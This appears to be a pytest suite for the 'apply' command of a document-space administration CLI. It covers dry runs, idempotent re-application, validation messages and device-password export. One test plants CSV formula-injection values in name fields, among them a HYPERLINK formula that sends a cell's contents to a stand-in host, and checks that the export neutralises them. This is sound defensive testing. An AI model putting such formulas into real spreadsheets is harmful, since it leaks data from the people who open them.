"""`apply`: the difference first, then it is done, and done twice there is none."""

from __future__ import annotations

import csv
import re
import shlex
from datetime import UTC
from pathlib import Path

import pytest

from server.cli.text import parse_moment
from tests.cli.shop import Shop, process
from tests.tools import ROOT

EXAMPLES = ("apply.example.toml", "apply.example.csv")


def written(folder: Path, text: str, name: str = "wanted.toml") -> Path:
    """Write a file for `apply`."""
    file = folder / name
    file.write_text(text, encoding="utf-8")
    return file


@pytest.mark.parametrize("name", EXAMPLES)
def test_the_example_is_applied_once(shop: Shop, name: str) -> None:
    file = ROOT / "deploy" / name
    shown = shop.ok("apply", file, "--dry-run")
    assert shown["steps"] and not shown["done"]
    assert len(shop.ok("org", "list")) == 1
    done = shop.ok("apply", file, "--yes")
    assert done["done"] and done["steps"] == shown["steps"]
    again = shop.ok("apply", file, "--yes")
    assert (again["steps"], again["notes"], again["done"]) == ([], [], False)
    assert shop.run("apply", file).out == "No difference.\n"
    assert shop.ok("verify")["whole"]


def test_who_followed_the_readme_could_not_apply_the_examples(shop: Shop) -> None:
    lines = re.findall(
        r"^mellanrum --data \S+ ((?:org|person|space|grant) .*)$", (ROOT / "README.md").read_text(), re.M
    )
    assert len(lines) == 4
    for line in lines:
        shop.ok(*shlex.split(line))
    for name in EXAMPLES * 2:
        shop.ok("apply", ROOT / "deploy" / name, "--yes")
    assert shop.run("apply", ROOT / "deploy" / EXAMPLES[0]).out == "No difference.\n"


def test_members_have_folders_of_their_own(shop: Shop) -> None:
    shop.ok("apply", ROOT / "deploy" / "apply.example.toml", "--yes")
    grants = shop.ok("grant", "list", "Föreningen")
    own = {(each["role"], each["for"]) for each in grants if each["path"] == "/Medlemmar/Åsa Nguyễn"}
    assert own == {("editor", "Åsa Nguyễn"), ("viewer", "Styrelsen"), ("break", "(nobody inherits)")}


def test_it_asks_before_it_does_anything(shop: Shop, tmp_path: Path) -> None:
    file = written(tmp_path, '[[organisation]]\nname = "Kund"\n')
    ran = process("--data", shop.data, "apply", file)
    assert ran.code == 7
    assert "+ organisation Kund" in ran.out
    assert len(shop.ok("org", "list")) == 1


def test_changes_are_told_from_what_is_new(shop: Shop, tmp_path: Path) -> None:
    text = """
[[organisation]]
name = "Kund"
[[person]]
login = "bo"
name = "Bo Alm"
organisation = "Kund"
[[space]]
name = "Akten"
customer = "Kund"
grants = [{ role = "viewer", person = "bo" }]
"""
    shop.ok("apply", written(tmp_path, text), "--yes")
    changed = text.replace('name = "Kund"\n[[', 'name = "Kund"\nsecond_factor = true\n[[').replace("viewer", "editor")
    changed = changed.replace("Bo Alm", "Bo Almqvist").replace(
        '"Kund"\ngrants', '"Kund"\nquota_bytes = 1000000\ngrants'
    )
    steps = shop.ok("apply", written(tmp_path, changed), "--yes")["steps"]
    assert [(step["sign"], step["what"]) for step in steps] == [
        ("~", "organisation"), ("~", "person"), ("~", "space"), ("~", "grant"),
    ]  # fmt: skip
    assert [each["role"] for each in shop.ok("grant", "list", "Akten")] == ["editor"]
    assert shop.ok("space", "show", "Akten")["quota_bytes"] == 1_000_000
    assert shop.ok("person", "show", "bo")["name"] == "Bo Almqvist"
    assert shop.ok("apply", tmp_path / "wanted.toml", "--yes")["steps"] == []


def test_nothing_goes_that_the_file_does_not_name(shop: Shop, tmp_path: Path) -> None:
    shop.ok("org", "add", "Kvar")
    shop.ok("space", "create", "Akten")
    shop.ok("grant", "add", "Akten", "manager", "--person", "agnes")
    shop.ok("apply", written(tmp_path, '[[space]]\nname = "Akten"\n[[organisation]]\nname = "Ny"\n'), "--yes")
    assert {each["name"] for each in shop.ok("org", "list")} >= {"Kvar", "Ny"}
    assert len(shop.ok("grant", "list", "Akten")) == 1


def test_two_of_one_name_get_a_folder_each_and_keep_it(shop: Shop, tmp_path: Path) -> None:
    def listing(*logins: str) -> Path:
        rows = [f"Brf,{login},Eva Ek,Huset,/M" for login in logins]
        return written(tmp_path, "\n".join(["organisation,login,name,space,private_below", *rows]), "m.csv")

    shop.ok("apply", listing("eva1"), "--yes")
    shop.ok("apply", listing("eva1", "eva2"), "--yes")
    paths = {each["path"] for each in shop.ok("grant", "list", "Huset") if each["kind"] == "person"}
    assert paths == {"/M/Eva Ek", "/M/Eva Ek (eva2)"}
    assert shop.ok("apply", listing("eva2", "eva1"), "--yes")["steps"] == []


def test_all_that_is_wrong_is_named_at_once(shop: Shop, tmp_path: Path) -> None:
    text = """
[[organisation]]
nam = "Kund"
[[person]]
login = 7
name = "Bo"
[[space]]
name = "a/b"
grants = [{ role = "king", person = "bo" }, { role = "viewer" }]
[[sapce]]
name = "x"
"""
    ran = shop.run("apply", written(tmp_path, text))
    assert ran.code == 65
    for part in (
        "Did you mean name?",
        "name is missing",
        "login must be text",
        "a/b",
        "king",
        "name one of",
        "[[sapce]]",
    ):
        assert part in ran.err, part
    rows = (
        "organisation,login,name,space,role\n"
        "\n"  # row 2, empty
        "Kund,bo,,,\n"
        ",,,Akten,viewer\n"
        "Kund,,,Akten,editr\n"
    )
    ran = shop.run("apply", written(tmp_path, rows, "w.csv"))
    assert ran.code == 65
    for part in ("row 3: bo has no name", "row 4: role needs", "row 5: there is no role editr"):
        assert part in ran.err, part
    ran = shop.run("apply", written(tmp_path, "organisation,spaec\nKund,x\n", "w.csv"))
    assert "Did you mean space?" in ran.err


CONTRADICTING = {
    "a mail address without whose it is": ("organisation,login,name,mail", "Kund,,,b@kund.example", "mail needs login"),
    "a role's end without the role": ("organisation,space,expires", "Kund,Akten,2030-01-01", "expires needs role"),
    "an end of what is a member's for good": (
        "organisation,login,name,space,role,expires,private_below",
        "Kund,bo,Bo,Akten,viewer,2030-01-01,/M",
        "expires does not go with private_below",
    ),
    "no history where it is a member's own": (
        "organisation,login,name,space,role,history,private_below",
        "Kund,bo,Bo,Akten,viewer,no,/M",
        "history does not go with private_below",
    ),
    "two names of one person": ("organisation,login,name", "Kund,bo,Bo\nKund,bo,Bosse", "row 3: name of bo is another"),
    "a second factor, and none": (
        "organisation,second_factor",
        "Kund,yes\nKund,no",
        "second_factor of Kund is another",
    ),
}


@pytest.mark.parametrize("what", CONTRADICTING)
def test_what_a_row_said_was_passed_over_in_silence(shop: Shop, tmp_path: Path, what: str) -> None:
    columns, rows, said = CONTRADICTING[what]
    ran = shop.run("apply", written(tmp_path, f"{columns}\n{rows}\n", "w.csv"), "--yes")
    assert (ran.code, len(shop.ok("org", "list"))) == (65, 1)
    assert said in ran.err


def test_a_later_row_says_what_an_earlier_one_left_empty(shop: Shop, tmp_path: Path) -> None:
    rows = "organisation,login,name,mail,administrator\nKund,bo,Bo,,\nKund,bo,,bo@kund.example,yes\n"
    shop.ok("apply", written(tmp_path, rows, "w.csv"), "--yes")
    found = shop.ok("person", "show", "bo")
    assert (found["mail"], found["administrator"]) == ("bo@kund.example", True)


def test_that_somebody_is_no_administrator_was_passed_over(shop: Shop, tmp_path: Path) -> None:
    shop.ok("person", "add", "bo", "Bo", "--administrator")
    told = '[[person]]\nlogin = "bo"\nname = "Bo"\n'
    assert shop.run("apply", written(tmp_path, told)).out == "No difference.\n"
    file = written(tmp_path, f"{told}administrator = false\n")
    (step,) = shop.ok("apply", file, "--yes")["steps"]
    assert step["text"] == "bo: administrator no longer"
    assert not shop.ok("person", "show", "bo")["administrator"]
    assert shop.run("apply", file).out == "No difference.\n"


YEAR_SECONDS = 366 * 24 * 3600


def test_how_long_versions_stay_was_to_be_said_of_each_space_by_itself(shop: Shop, tmp_path: Path) -> None:
    for text, seconds in (('"7y"', 7 * YEAR_SECONDS), ('"8y"', 8 * YEAR_SECONDS), ('"none"', None)):
        file = written(tmp_path, f'[[space]]\nname = "Ett"\nretention = {text}\n')
        shop.ok("apply", file, "--yes")
        assert shop.ok("space", "show", "Ett")["retention_seconds"] == seconds
        assert shop.run("apply", file).out == "No difference.\n"
    rows = "space,retention,folders\nEtt,7y,\nEtt,,Under\nTvå,10y,\n"
    shop.ok("apply", written(tmp_path, rows, "w.csv"), "--yes")
    shop.ok("apply", written(tmp_path, '[[space]]\nname = "Ett"\n'), "--yes")
    kept = {each["name"]: each["retention_seconds"] for each in shop.ok("space", "list")}
    assert kept == {"Ett": 7 * YEAR_SECONDS, "Två": 10 * YEAR_SECONDS}
    ran = shop.run("apply", written(tmp_path, "space,retention\nEtt,7y\nEtt,sju år\n", "w.csv"), "--yes")
    assert "retention of Ett is another" in ran.err and "sju år is no length of time" in ran.err


@pytest.mark.parametrize(
    "text",
    [
        '[[organisation]]\nname = "Kund"\n[[person]]\nlogin = "b:o"\nname = "Bo"',
        '[[organisation]]\nname = "Kund"\n[[person]]\nlogin = "bo"\nname = "Bo\\u0007"',
        '[[organisation]]\nname = "Kund"\n[[organisation]]\nname = "' + "K" * 300 + '"',
        "[[organisation]]\nname = 2026-10-31",
        '[[person]]\nlogin = 2026-10-31T10:00:00Z\nname = "Bo"',
    ],
)
def test_a_name_that_cannot_be_stopped_it_half_way(shop: Shop, tmp_path: Path, text: str) -> None:
    ran = shop.run("apply", written(tmp_path, text), "--yes")
    assert (ran.code, len(shop.ok("org", "list"))) == (65, 1), ran.err


def test_white_space_around_a_name_was_a_difference_each_time(shop: Shop, tmp_path: Path) -> None:
    text = '[[organisation]]\nname = "Kund "\n[[person]]\nlogin = "bo "\nname = " Bo"\norganisation = "Kund"'
    shop.ok("apply", written(tmp_path, text), "--yes")
    assert shop.ok("apply", written(tmp_path, text), "--yes")["steps"] == []


def test_names_that_lead_nowhere_keep_it_from_beginning(shop: Shop, tmp_path: Path) -> None:
    text = """
[[organisation]]
name = "Ny"
[[person]]
login = "bo"
name = "Bo"
organisation = "Ingen"
[[space]]
name = "Akten"
grants = [{ role = "viewer", group = "Inga" }, { role = "viewer", person = "eva", expires = "snart" }]
"""
    ran = shop.run("apply", written(tmp_path, text), "--yes")
    assert ran.code == 65
    assert all(part in ran.err for part in ("Ingen", "Inga", "eva"))
    assert len(shop.ok("org", "list")) == 1


def test_a_grant_in_a_file_was_given_an_end_that_is_past(
    shop: Shop, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    shop.ok("person", "add", "bo", "Bo")
    form = '[[space]]\nname = "Akten"\ngrants = [{ role = "viewer", person = "bo", expires = "%s" }]'
    ran = shop.run("apply", written(tmp_path, form % "2020-01-01"), "--yes")
    assert (ran.code, "2020-01-01 is past" in ran.err, shop.ok("space", "list")) == (65, True, [])
    file = written(tmp_path, form % "2090-01-01")
    shop.ok("apply", file, "--yes")
    monkeypatch.setattr("server.cli.text.now_us", lambda: parse_moment("2090-02-01", UTC, ""))
    assert shop.ok("apply", file, "--yes")["steps"] == [], "what has run out since is no difference"


def test_a_group_of_an_ended_customer_was_taken_for_one_across_several(shop: Shop, tmp_path: Path) -> None:
    shop.ok("org", "add", "Kund")
    shop.ok("group", "add", "Ledning", "--org", "Kund")
    shop.ok("org", "remove", "Kund", "--yes")
    text = """
[[person]]
login = "bo"
name = "Bo"
[[group]]
name = "Ledning"
members = ["bo"]
[[space]]
name = "Akten"
grants = [{ role = "viewer", group = "Ledning" }]
"""
    shop.ok("apply", written(tmp_path, text), "--yes")
    assert shop.ok("apply", written(tmp_path, text), "--yes")["steps"] == []
    assert [each["members"] for each in shop.ok("group", "list") if each["organisation"] is None] == [["bo"]]


def test_half_way_is_told_and_gone_on_from(shop: Shop, tmp_path: Path) -> None:
    text = """
[[organisation]]
name = "Ett"
[[organisation]]
name = "Två"
[[space]]
name = "Rummet"
grants = [{ role = "viewer", organisation = "Ett" }, { role = "editor", organisation = "Två" }]
"""
    ran = shop.run("apply", written(tmp_path, text), "--yes")
    assert ran.code == 8
    assert "where another customer reads" in ran.err
    again = shop.ok("apply", written(tmp_path, text.replace("editor", "uploader")), "--yes")
    assert [step["what"] for step in again["steps"]] == ["grant"]


def test_new_people_get_device_passwords_in_a_list(shop: Shop, tmp_path: Path) -> None:
    listed = tmp_path / "devices.csv"
    shop.ok("apply", ROOT / "deploy" / "apply.example.csv", "--yes", "--devices", listed)
    assert listed.stat().st_mode & 0o777 == 0o600
    rows = list(csv.DictReader(listed.read_text(encoding="utf-8").splitlines()))
    assert {row["login"] for row in rows} == {"gunnar", "xiaolong", "lgh01", "lgh02"}
    assert all(row["device_password"].startswith("mrd_") for row in rows)
    assert shop.run("apply", ROOT / "deploy" / "apply.example.csv", "--devices", listed).code == 73


def test_people_were_left_without_a_password_where_the_list_could_not_be_written(shop: Shop, tmp_path: Path) -> None:
    rows = written(tmp_path, "organisation,login,name\nKund,bo,Bo\n", "w.csv")
    assert shop.run("apply", rows, "--yes", "--devices", tmp_path / "none" / "list.csv").code == 73
    assert len(shop.ok("org", "list")) == 1


def test_people_were_left_without_a_password_where_the_work_stopped_later(shop: Shop, tmp_path: Path) -> None:
    text = """
[[person]]
login = "bo"
name = "Bo"
[[organisation]]
name = "Ett"
[[organisation]]
name = "Två"
[[space]]
name = "Rummet"
grants = [{ role = "viewer", organisation = "Ett" }, { role = "editor", organisation = "Två" }]
"""
    listed = tmp_path / "devices.csv"
    assert shop.run("apply", written(tmp_path, text), "--yes", "--devices", listed).code == 8
    (row,) = csv.DictReader(listed.read_text(encoding="utf-8").splitlines())
    assert row["login"] == "bo" and row["device_password"].startswith("mrd_")
    assert len(shop.ok("device", "list", "bo")) == 1


def test_a_name_in_the_list_was_a_formula(shop: Shop, tmp_path: Path) -> None:
    rows = ["organisation,login,name", "=1+1,@bo,-2+3", '+A,eva,"=HYPERLINK(""http://x/?""&D2)"']
    listed = tmp_path / "devices.csv"
    shop.ok("apply", written(tmp_path, "\n".join(rows), "w.csv"), "--yes", "--devices", listed)
    for row in list(csv.reader(listed.read_text(encoding="utf-8").splitlines()))[1:]:
        assert not [text for text in row if text.startswith(("=", "+", "-", "@"))], row


def test_a_spreadsheet_of_any_country_is_read(shop: Shop, tmp_path: Path) -> None:
    file = tmp_path / "kunder.csv"
    file.write_bytes(b"\xef\xbb\xbf" + "Organisation;Space;Role\r\nKafé Blåbär;Akten;viewer\r\n;;\r\n".encode())
    assert len(shop.ok("apply", file, "--yes")["steps"]) == 3


def test_many_customers_at_once(shop: Shop, tmp_path: Path) -> None:
    rows = [f"Kund {n},p{n},Person {n},Bokföring,A/B|C,viewer" for n in range(60)]
    file = written(tmp_path, "\n".join(["organisation,login,name,space,folders,role", *rows]), "many.csv")
    done = shop.ok("apply", file, "--yes")
    assert len(done["steps"]) == 60 * (1 + 1 + 1 + 2 + 1)
    assert len(shop.ok("space", "list")) == 60
    assert shop.ok("apply", file, "--yes")["steps"] == []
